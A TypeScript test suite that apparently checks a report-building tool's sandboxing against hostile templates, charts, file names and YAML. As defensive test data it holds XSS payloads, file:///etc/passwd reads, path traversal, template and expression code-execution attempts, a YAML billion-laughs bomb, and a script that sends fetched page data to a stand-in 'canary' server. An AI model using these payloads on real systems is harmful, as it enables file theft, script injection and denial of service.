/** A report of a stranger is only read: nothing of it runs, fetches, or reaches out of its folder. */
import { readFile, rm, symlink } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { h } from 'hastscript'
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
import { joinNames } from '../src/5-template/names.ts'
import { launch } from '../src/6-print/index.ts'
import { openPdf } from '../src/6-print/pdf/read.ts'
import { type Site, serve } from '../src/preview/server.ts'
import type { Edition } from '../src/report.ts'
import { buildOnce, Session } from '../src/session.ts'
import { messagesOf, sample, writeReport } from './report-folder.ts'

/** A server that nobody should ever ask. */
const asked: string[] = []
const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.setHeader('access-control-allow-origin', '*').end('{}')
})
let canary: string
const roots: string[] = []

beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  canary = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterEach(() => expect(asked).toEqual([]))
afterAll(async () => {
  server.close()
  await Promise.all(roots.map((root) => rm(root, { recursive: true })))
})

async function report(files: Record<string, string>): Promise<string> {
  const root = await writeReport({ ...sample, ...files })
  roots.push(root)
  return root
}

function check(root: string): Promise<Edition> {
  return new Session(root).compose()
}

describe('a template that tries everything', () => {
  const hostile = () => `
<style>
@import url('${canary}/import.css');
@font-face { font-family: stolen; src: url('${canary}/font.ttf') }
body { background: url('${canary}/background.png'), url('file:///etc/passwd'); font-family: stolen, 'Noto Sans SC' }
</style>
<link rel="stylesheet" href="${canary}/style.css"><link rel="prefetch" href="${canary}/prefetch">
<script src="${canary}/script.js"></script>
<script>document.body.append('it ran')</script>
<svg onload="document.body.append('it ran')"></svg>
<img src="nowhere.png" onerror="document.body.append('it ran')">
<img src="${canary}/image.png"><img src="file:///etc/hostname"><img src="../../report.yaml">
<iframe src="file:///etc/passwd" width="600" height="300"></iframe>
<iframe src="${canary}/frame.html"></iframe>
<iframe srcdoc="<script>parent.document.body.append('it ran')</script>"></iframe>
<object data="file:///etc/passwd" width="600" height="300"></object>
<video src="${canary}/video.mp4" autoplay></video>
<img src="%E0%A4%A.png" alt="an address that cannot be decoded">
<form action="${canary}/form"><input autofocus onfocus="document.body.append('it ran')"></form>`

  const line =
    '<p><a href="#{{ e.id }}">{{ e.label }} {{ e.title | raw }} <b data-page="{{ e.id }}"></b></a></p>'
  const list = (name: string) => `{% for e in ${name} %}${line}{% endfor %}`
  const files = () => ({
    'report.yaml': `${sample['report.yaml']}template: own\n`,
    'templates/own/template.yaml': 'extends: house\n',
    'templates/own/print.liquid': `<html lang="zh-CN"><title>{{ report.title }}</title><style>{{ styles | raw }}</style>
<body onload="document.body.append('it ran')">${hostile()}
${list('contents')}${list('figures')}${list('tables')}
{% for chapter in chapters %}{{ chapter | raw }}{% endfor %}</body></html>`,
    'templates/own/edition.liquid': `<html lang="zh-CN"><head><meta charset="utf-8">
<title>{{ report.title }}</title></head>
<body onload="document.body.append('it ran')">${hostile()}</body></html>`,
  })

  test.each(['en', ''])(
    'prints, without having run, fetched or read anything, in locale `%s`',
    async (locale) => {
      vi.stubEnv('LC_ALL', locale)
      vi.stubEnv('LANG', 'en')
      const root = await report(files())
      const { files: read, result } = await buildOnce(root, join(root, 'build')).finally(vi.unstubAllEnvs)
      expect(messagesOf(read)).toBe('\n')
      expect(result).not.toBeNull()
      const text = await textOf(await readFile(join(root, 'build/report.pdf')))
      expect(text).toContain('用户、产业、行业的文字可以复制')
      expect(text).not.toMatch(/it ran|root:/)

      const browser = await launch()
      try {
        const tab = await browser.newPage()
        await tab.goto(pathToFileURL(join(root, 'build/html/index.html')).href, { waitUntil: 'load' })
        const ran = await tab.evaluate(() =>
          [...document.body.childNodes].some(
            ({ nodeName, nodeValue }) => nodeName === '#text' && nodeValue === 'it ran',
          ),
        )
        expect(ran).toBe(false)
        expect(tab.frames().map((frame) => frame.url())).not.toContain('file:///etc/passwd')
      } finally {
        await browser.close()
      }
    },
  )
})

describe('the preview', () => {
  const script = () => `
<script>
  fetch('./').then((reply) => reply.text()).then((text) => fetch('${canary}/stolen?' + text.length))
  fetch('open', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"file":"report.yaml"}' })
</script>
<image href="${canary}/image.png" width="9" height="9"/>`

  /** Answers every path with an active document, as if nobody had looked at it before. */
  const opened: string[] = []
  const site: Site = {
    get: async (path) => ({
      type: path.endsWith('.svg') ? 'image/svg+xml' : 'text/html; charset=utf-8',
      body: path.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg">${script()}</svg>` : script(),
    }),
    library: async () => null,
    post: async (path) => {
      opened.push(path)
      return null
    },
    connect: () => {},
    disconnect: () => {},
  }

  test.each(['a.svg', 'a.html'])('runs nothing of %s, though it is opened by itself', async (name) => {
    const served = await serve(site, 'key', '127.0.0.1', 0)
    const browser = await launch()
    try {
      const tab = await browser.newPage()
      await tab.goto(served.url + name, { waitUntil: 'networkidle0' })
      expect(await tab.evaluate(() => self.origin)).toBe('null')
      expect(opened).toEqual([])
    } finally {
      await browser.close()
      await served.close()
    }
  })

  test('shows no picture that runs something', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script()}</svg>`
    const { files } = await check(await report({ 'chapters/square.svg': svg }))
    expect(messagesOf(files)).toMatch(/ image-svg +yanbao/)
  })
})

describe('nothing outside the folder is read', () => {
  test.each([
    ['a chapter', 'chapters/03-link.md', '/etc/passwd'],
    ['a dataset', 'datasets/link.yaml', '/etc/passwd'],
    ['a picture', 'chapters/link.png', '/etc/passwd'],
    ['a template', 'templates/own', '/etc'],
  ])('by %s that is a link out of it', async (_, path, target) => {
    const root = await report({
      'chapters/04-picture.md': path.endsWith('.png') ? '# A\n\n![](link.png)\n' : '# A\n\nText.\n',
      'templates/other/template.yaml': 'extends: house\n',
    })
    await symlink(target, join(root, path))
    const { files, inputs } = await check(root)
    if (path !== 'templates/own') expect(messagesOf(files)).toMatch(/ file-outside +yanbao/)
    expect(files.map(String).join('')).not.toContain('root:')
    expect(inputs.map((input) => input.path)).not.toContain(path)
  })

  test.each([
    ['../../../../../../../../etc/hostname.png', 'file-outside'],
    ['..%2F..%2F..%2F..%2Fetc%2Fhostname.png', 'file-outside'],
    ['/etc/hostname.png', 'file-missing'],
    ['file:///etc/hostname.png', 'image-remote'],
    ['//example.com/a.png', 'image-remote'],
  ])('by the picture %s', async (url, rule) => {
    const { files } = await check(await report({ 'chapters/03-picture.md': `# A\n\n![a](${url})\n` }))
    expect(messagesOf(files)).toMatch(new RegExp(` ${rule} +yanbao`))
  })

  test.each([
    "{% include '../../report.yaml' %}",
    "{% render '../../../../../../etc/passwd' %}",
    "{% layout '/etc/passwd' %}",
    '{{ report.constructor.constructor }}',
    '{{ words.__proto__.toString }}',
  ])('by a template that says %s', async (liquid) => {
    const root = await report({
      'report.yaml': `${sample['report.yaml']}template: own\n`,
      'templates/own/template.yaml': 'extends: house\n',
      'templates/own/print.liquid': liquid,
    })
    const { files, print } = await check(root)
    expect(messagesOf(files)).toMatch(/ template-invalid +yanbao/)
    expect(print).toBe('')
  })
})

describe('names of files', () => {
  const odd = [
    '03-增长50%.md',
    '04 with spaces & #1.md',
    `05-'quotes"<b>.md`,
    '06-a\nb.md',
    `07-${'长'.repeat(82)}.md`,
    '08-..%2F..md',
  ]

  test('are names, whatever is in them', async () => {
    const chapters = odd.map((name, at) => [`chapters/${name}`, `# 第${at}\n\n文字[^1]。\n\n[^1]: 脚注。\n`])
    const root = await report({
      ...Object.fromEntries(chapters),
      'report.yaml': `${sample['report.yaml']}template: own\n`,
      'templates/own/template.yaml': 'extends: house\n',
      'templates/own/parts/heads.liquid': `<link rel="stylesheet" href="${canary}/style.css">`,
    })
    const { files, result } = await buildOnce(root, join(root, 'build'))
    expect(messagesOf(files)).toBe('\n')
    expect(result).not.toBeNull()
  })
})

describe('nothing outside the folder is written', () => {
  test('by a figure whose id is a path', async () => {
    const cover = '---\npart: cover\n---\n\n:::figure{id="../../../evil" kind=table data=market}\nA\n:::\n'
    const { files } = await check(await report({ 'chapters/00-cover.md': cover }))
    expect(messagesOf(files)).toMatch(/ id-shape +yanbao/)
  })
})

describe('a chart', () => {
  const chart = (spec: string) =>
    `# A\n\n:::figure{#fig-x data=market}\nA\n\n\`\`\`vega-lite\n${spec}\n\`\`\`\n:::\n`
  const encoding = 'encoding: { x: { field: year }, y: { field: size, type: quantitative } }'

  test.each([
    [
      'loads no data',
      (url: string) =>
        `layer: [{ data: { url: '${url}/data.json' }, mark: bar, encoding: { x: { field: year } } }]`,
    ],
    [
      'loads no file',
      () =>
        `layer: [{ data: { url: 'file:///etc/passwd', format: { type: dsv, delimiter: ':' } }, mark: bar, encoding: { x: { field: year } } }]`,
    ],
    ['loads no picture', (url: string) => `mark: { type: image, url: '${url}/picture.png' }\n${encoding}`],
    ['links nowhere', (url: string) => `mark: { type: bar, href: '${url}/page' }\n${encoding}`],
    [
      'makes no list without end',
      () => `transform: [{ calculate: 'length(sequence(0, 4e8))', as: z }]\nmark: bar\n${encoding}`,
    ],
    [
      'runs no code',
      () =>
        `transform: [{ calculate: "datum.constructor.constructor('globalThis.ran = 1')()", as: z }]\nmark: bar\n${encoding}`,
    ],
    [
      'calls no function it was not given',
      () => `transform: [{ calculate: "eval('globalThis.ran = 1')", as: z }]\nmark: bar\n${encoding}`,
    ],
    [
      'reaches no global',
      () => `transform: [{ calculate: 'process.env.PATH', as: z }]\nmark: bar\n${encoding}`,
    ],
  ])('%s', async (_, spec) => {
    const { files, print } = await check(await report({ 'chapters/03-chart.md': chart(spec(canary)) }))
    expect(messagesOf(files)).toMatch(/ chart-invalid +yanbao/)
    expect(globalThis).not.toHaveProperty('ran')
    expect(print).not.toMatch(/root:/)
  })
})

describe('a few lines of YAML that stand for a thousand million texts', () => {
  const bomb = ['a: &a [x, x, x, x, x, x, x, x, x]']
  for (const [index, name] of [...'bcdefghi'].entries()) {
    bomb.push(`${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[index]}`).join(', ')}]`)
  }
  const text = bomb.join('\n')

  test.each([
    ['in a dataset', { 'datasets/bomb.yaml': text }],
    ['in report.yaml', { 'report.yaml': text }],
    ['at the top of a chapter', { 'chapters/03-bomb.md': `---\n${text}\n---\n\n# A\n` }],
    [
      'in a chart',
      { 'chapters/03-bomb.md': `# A\n\n:::figure{#fig-x}\nA\n\n\`\`\`vega-lite\n${text}\n\`\`\`\n:::\n` },
    ],
  ])('%s are a mistake', async (_, files) => {
    expect(messagesOf((await check(await report(files))).files)).toMatch(/ yaml-syntax +yanbao/)
  })
})

async function textOf(pdf: Uint8Array): Promise<string> {
  const document = await openPdf(pdf)
  const numbers = Array.from({ length: document.numPages }, (_, index) => index + 1)
  const pages = numbers.map(async (number) => (await document.getPage(number)).getTextContent())
  const items = (await Promise.all(pages)).flatMap((page) => page.items)
  return items.map((item) => ('str' in item ? item.str : '')).join('')
}

test.each(['-', 'a-', '1-', 'a', '1.'])('%s many times over is a text like any other', (part) => {
  const text = h('p', part.repeat(50_000))
  joinNames({ type: 'root', children: [text] })
  expect(text.children).toHaveLength(1)
})
